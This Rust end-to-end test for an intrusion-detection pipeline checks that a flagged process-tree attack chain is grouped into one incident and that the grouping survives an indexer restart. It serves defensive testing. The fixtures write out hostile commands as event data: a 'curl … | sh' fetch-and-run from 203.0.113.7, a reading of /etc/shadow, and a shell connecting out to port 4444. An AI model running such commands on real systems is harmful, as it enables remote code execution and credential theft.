//! Incidents through the real services: events → scorer → alerts topic →
//! the indexer's grouping → ClickHouse `incidents` → IncidentService
//! (list, get, stream). An attack chain of one process tree is one
//! incident; an unrelated flagged process on the same host is another; the
//! grouping survives an indexer restart.
#![cfg(feature = "services")]

use std::collections::HashSet;
use std::time::Duration;

use outlier_collector::publish::Publisher;
use outlier_e2e::{TestEnv, exec, now_ns, read_scored};
use outlier_proto::incident_service_client::IncidentServiceClient;
use outlier_proto::{
    Connect, Event, GetIncidentRequest, Incident, ListIncidentsRequest, Open,
    StreamIncidentsRequest, Verdict, event::Detail,
};
use tokio_util::sync::CancellationToken;
use tonic::transport::Channel;

fn on_host(mut e: Event, pid: u32, ppid: u32, parent: &str) -> Event {
    e.host = "web-1".into();
    e.pid = pid;
    e.ppid = ppid;
    e.parent_comm = parent.into();
    e
}

fn connect(id: &str, org: &str, ts_ns: u64, comm: &str, ip: &str, port: u32) -> Event {
    Event {
        event_id: id.into(),
        org: org.into(),
        workload: "web".into(),
        ts_ns,
        comm: comm.into(),
        exe: format!("/usr/bin/{comm}"),
        detail: Some(Detail::Connect(Connect {
            remote_ip: ip.into(),
            remote_port: port,
            ..Connect::default()
        })),
        ..Event::default()
    }
}

async fn publish(p: &Publisher, events: &[Event]) {
    for e in events {
        p.send(e)
            .await
            .expect("queue")
            .await
            .expect("delivered")
            .expect("acked");
    }
}

async fn list(c: &mut IncidentServiceClient<Channel>, org: &str) -> Vec<Incident> {
    c.list_incidents(ListIncidentsRequest {
        org: org.into(),
        limit: 1000,
        ..ListIncidentsRequest::default()
    })
    .await
    .expect("ListIncidents")
    .into_inner()
    .incidents
}

/// Polls until an incident holds every id of `ids`.
async fn incident_with(
    c: &mut IncidentServiceClient<Channel>,
    org: &str,
    ids: &HashSet<String>,
) -> (Incident, Vec<Incident>) {
    let deadline = tokio::time::Instant::now() + Duration::from_secs(90);
    loop {
        let all = list(c, org).await;
        if let Some(i) = all
            .iter()
            .find(|i| ids.iter().all(|id| i.event_ids.contains(id)))
        {
            return (i.clone(), all);
        }
        assert!(
            tokio::time::Instant::now() < deadline,
            "no incident holds {ids:?}; incidents: {all:#?}"
        );
        tokio::time::sleep(Duration::from_millis(300)).await;
    }
}

/// The OCSF findings of `ids` from the findings topic, by event id.
async fn read_findings(
    env: &TestEnv,
    ids: &HashSet<String>,
) -> std::collections::HashMap<String, serde_json::Value> {
    use rdkafka::Message as _;
    use rdkafka::consumer::{Consumer as _, StreamConsumer};
    let c: StreamConsumer = env
        .kafka
        .consumer_config(
            "e2e-ocsf",
            &format!("ocsf-{}", uuid::Uuid::now_v7().simple()),
        )
        .create()
        .unwrap();
    c.subscribe(&[env.kafka.topics.findings.as_str()]).unwrap();
    let deadline = tokio::time::Instant::now() + Duration::from_secs(60);
    let mut out = std::collections::HashMap::new();
    while out.len() < ids.len() {
        let m = tokio::time::timeout_at(deadline, c.recv())
            .await
            .unwrap_or_else(|_| panic!("findings of {ids:?} not all published: {:?}", out.keys()))
            .expect("kafka");
        let f: serde_json::Value = serde_json::from_slice(m.payload().unwrap()).expect("JSON");
        let id = f["finding_info"]["uid"]
            .as_str()
            .unwrap_or_default()
            .to_string();
        if ids.contains(&id) {
            out.insert(id, f);
        }
    }
    out
}

async fn connect_client(addr: std::net::SocketAddr) -> IncidentServiceClient<Channel> {
    loop {
        if let Ok(c) = Channel::from_shared(format!("http://{addr}"))
            .unwrap()
            .connect()
            .await
        {
            return IncidentServiceClient::new(c);
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn an_attack_chain_is_one_incident_listed_got_and_streamed() {
    let env = TestEnv::new("incidents").await;
    let scorer_stop = CancellationToken::new();
    let scorer = tokio::spawn(outlier_scorer::run(
        env.scorer_config(),
        scorer_stop.clone(),
    ));
    let icfg = env.indexer_config();
    let addr = icfg.grpc_addr;
    let mut indexer_stop = CancellationToken::new();
    let mut indexer = tokio::spawn(outlier_indexer::run(icfg.clone(), indexer_stop.clone()));
    let org = format!("o{}", &env.id[env.id.len() - 8..]);
    let mut client = connect_client(addr).await;

    // Follow the org's incidents from now.
    let mut stream = client
        .stream_incidents(StreamIncidentsRequest {
            org: org.clone(),
            ..StreamIncidentsRequest::default()
        })
        .await
        .expect("StreamIncidents")
        .into_inner();

    let publisher = Publisher::new(&env.kafka, "e2e-incidents").unwrap();
    let t0 = now_ns();
    // A routine the workload learns: nginx reloads and health checks.
    let mut routine = Vec::new();
    for i in 0..40u64 {
        let argv: &[&str] = if i % 2 == 0 {
            &["nginx", "-s", "reload"]
        } else {
            &["curl", "-s", "http://127.0.0.1/health"]
        };
        routine.push(on_host(
            exec(&format!("r-{i}"), &org, "web", t0 + i * 1_000_000, argv),
            1000 + i as u32,
            999,
            "cron",
        ));
    }
    publish(&publisher, &routine).await;

    // The chain: php-fpm (2000) spawns a shell (2001) that downloads and
    // runs a script, connects out and reads the shadow file; and at the
    // same time an unrelated new process tree on the same host.
    let t1 = t0 + 1_000_000_000;
    let s = |ms: u64| t1 + ms * 1_000_000;
    let chain = vec![
        on_host(
            exec(
                "c-1",
                &org,
                "web",
                s(0),
                &["sh", "-c", "curl -s http://203.0.113.7/x | sh"],
            ),
            2001,
            2000,
            "php-fpm",
        ),
        on_host(
            exec(
                "c-2",
                &org,
                "web",
                s(10),
                &["curl", "-s", "http://203.0.113.7/x"],
            ),
            2002,
            2001,
            "sh",
        ),
        on_host(
            connect("c-3", &org, s(20), "curl", "203.0.113.7", 80),
            2002,
            2001,
            "sh",
        ),
        on_host(
            exec("c-4", &org, "web", s(30), &["cat", "/etc/shadow"]),
            2003,
            2001,
            "sh",
        ),
        on_host(
            Event {
                event_id: "c-5".into(),
                org: org.clone(),
                workload: "web".into(),
                ts_ns: s(31),
                comm: "cat".into(),
                exe: "/usr/bin/cat".into(),
                detail: Some(Detail::Open(Open {
                    path: "/etc/shadow".into(),
                    ..Open::default()
                })),
                ..Event::default()
            },
            2003,
            2001,
            "sh",
        ),
    ];
    let unrelated = on_host(
        exec(
            "u-1",
            &org,
            "web",
            s(15),
            &["/usr/local/bin/backup-agent", "--sync", "/srv"],
        ),
        3001,
        3000,
        "systemd-journal",
    );
    let mut attack = chain.clone();
    attack.insert(2, unrelated);
    publish(&publisher, &attack).await;

    // What the scorer flagged.
    let alerts = read_scored(
        &env.kafka,
        &env.kafka.topics.alerts,
        Duration::from_secs(120),
        |a| {
            a.iter()
                .any(|x| x.event.as_ref().unwrap().event_id == "c-5")
        },
    )
    .await;
    let flagged: HashSet<String> = alerts
        .iter()
        .filter(|a| matches!(a.verdict(), Verdict::Warn | Verdict::Alert))
        .map(|a| a.event.as_ref().unwrap().event_id.clone())
        .collect();
    let chain_flagged: HashSet<String> = chain
        .iter()
        .map(|e| e.event_id.clone())
        .filter(|id| flagged.contains(id))
        .collect();
    assert!(
        chain_flagged.len() >= 3,
        "the scorer flagged too little of the chain to group: {flagged:?}"
    );
    assert!(
        flagged.contains("u-1"),
        "the unrelated new process was not flagged: {flagged:?}"
    );

    // Each alert is also an OCSF Detection Finding on the findings topic,
    // valid against the OCSF schema.
    let schema =
        outlier_indexer::ocsf_schema::Schema::load(&outlier_indexer::ocsf_schema::vendored_dir())
            .expect("OCSF schema");
    let findings = read_findings(&env, &chain_flagged).await;
    for (id, f) in &findings {
        let errors = schema.validate("detection_finding", f);
        assert!(errors.is_empty(), "{id}: {errors:#?}\n{f:#}");
        assert_eq!(f["device"]["hostname"], "web-1");
        assert_eq!(f["metadata"]["tenant_uid"].as_str(), Some(org.as_str()));
    }

    // One incident holds the whole flagged chain, and nothing else.
    let (inc, all) = incident_with(&mut client, &org, &chain_flagged).await;
    assert_eq!(inc.event_count as usize, chain_flagged.len(), "{inc:#?}");
    assert!(!inc.event_ids.contains(&"u-1".to_string()));
    assert_eq!(inc.host, "web-1");
    assert_eq!(inc.workloads, ["web"]);
    assert!(
        inc.summary.starts_with(&format!(
            "{} flagged events on web-1 (web)",
            chain_flagged.len()
        )),
        "{}",
        inc.summary
    );
    assert!(matches!(inc.verdict(), Verdict::Warn | Verdict::Alert));
    let other = all
        .iter()
        .find(|i| i.event_ids.contains(&"u-1".to_string()))
        .expect("the unrelated process has its own incident");
    assert_ne!(other.incident_id, inc.incident_id);
    assert!(
        other.event_ids.iter().all(|id| !id.starts_with("c-")),
        "{other:#?}"
    );

    // Get: the incident with its events as stored, oldest first (the
    // incident can be listed a moment before its events' rows land).
    let deadline = tokio::time::Instant::now() + Duration::from_secs(60);
    let got = loop {
        let got = client
            .get_incident(GetIncidentRequest {
                org: org.clone(),
                incident_id: inc.incident_id.clone(),
            })
            .await
            .expect("GetIncident")
            .into_inner();
        if got.events.len() >= chain_flagged.len() || tokio::time::Instant::now() > deadline {
            break got;
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
    };
    let ids: Vec<String> = got
        .events
        .iter()
        .map(|e| e.event.as_ref().unwrap().event_id.clone())
        .collect();
    assert_eq!(ids.iter().cloned().collect::<HashSet<_>>(), chain_flagged);
    assert!(
        got.events
            .windows(2)
            .all(|w| { w[0].event.as_ref().unwrap().ts_ns <= w[1].event.as_ref().unwrap().ts_ns })
    );
    // Another org sees neither.
    let e = client
        .get_incident(GetIncidentRequest {
            org: "someone-else".into(),
            incident_id: inc.incident_id.clone(),
        })
        .await
        .unwrap_err();
    assert_eq!(e.code(), tonic::Code::NotFound);
    assert!(list(&mut client, "someone-else").await.is_empty());

    // The stream sent the incident as it grew, ending with its full size.
    let deadline = tokio::time::Instant::now() + Duration::from_secs(30);
    let cursor = loop {
        let u = tokio::time::timeout_at(deadline, stream.message())
            .await
            .expect("the stream sent the chain's incident")
            .expect("stream")
            .expect("open");
        let i = u.incident.unwrap();
        assert_eq!(i.org, org);
        if i.incident_id == inc.incident_id && i.event_count as usize == chain_flagged.len() {
            break u.cursor;
        }
    };
    let denied = client
        .stream_incidents(StreamIncidentsRequest {
            org: "someone-else".into(),
            resume_cursor: cursor.clone(),
            ..StreamIncidentsRequest::default()
        })
        .await
        .unwrap_err();
    assert_eq!(denied.code(), tonic::Code::PermissionDenied);
    drop(stream);

    // Restart the indexer: the open incident is read back and the shell's
    // next step joins it.
    indexer_stop.cancel();
    indexer.await.unwrap().unwrap();
    indexer_stop = CancellationToken::new();
    indexer = tokio::spawn(outlier_indexer::run(icfg, indexer_stop.clone()));
    let mut client = connect_client(addr).await;
    let mut resumed = client
        .stream_incidents(StreamIncidentsRequest {
            org: org.clone(),
            resume_cursor: cursor,
            ..StreamIncidentsRequest::default()
        })
        .await
        .expect("resume the stream")
        .into_inner();
    let next = on_host(
        connect("c-6", &org, s(5_000), "sh", "198.51.100.9", 4444),
        2001,
        2000,
        "php-fpm",
    );
    publish(&publisher, &[next]).await;
    let alerts = read_scored(
        &env.kafka,
        &env.kafka.topics.alerts,
        Duration::from_secs(60),
        |a| {
            a.iter()
                .any(|x| x.event.as_ref().unwrap().event_id == "c-6")
        },
    )
    .await;
    assert!(
        alerts
            .iter()
            .any(|x| x.event.as_ref().unwrap().event_id == "c-6"),
        "the shell's new connection was not flagged"
    );
    let mut grown = chain_flagged.clone();
    grown.insert("c-6".into());
    let (after, _) = incident_with(&mut client, &org, &grown).await;
    assert_eq!(
        after.incident_id, inc.incident_id,
        "joined after the restart"
    );
    assert_eq!(
        after.event_count as usize,
        grown.len(),
        "nothing counted twice"
    );
    // The resumed stream carries on from the cursor: the grown incident.
    let deadline = tokio::time::Instant::now() + Duration::from_secs(30);
    loop {
        let u = tokio::time::timeout_at(deadline, resumed.message())
            .await
            .expect("the resumed stream sent the grown incident")
            .expect("stream")
            .expect("open");
        let i = u.incident.unwrap();
        if i.incident_id == inc.incident_id {
            assert_eq!(i.event_count as usize, grown.len());
            break;
        }
    }

    indexer_stop.cancel();
    scorer_stop.cancel();
    indexer.await.unwrap().unwrap();
    scorer.await.unwrap().unwrap();
    env.cleanup().await;
}
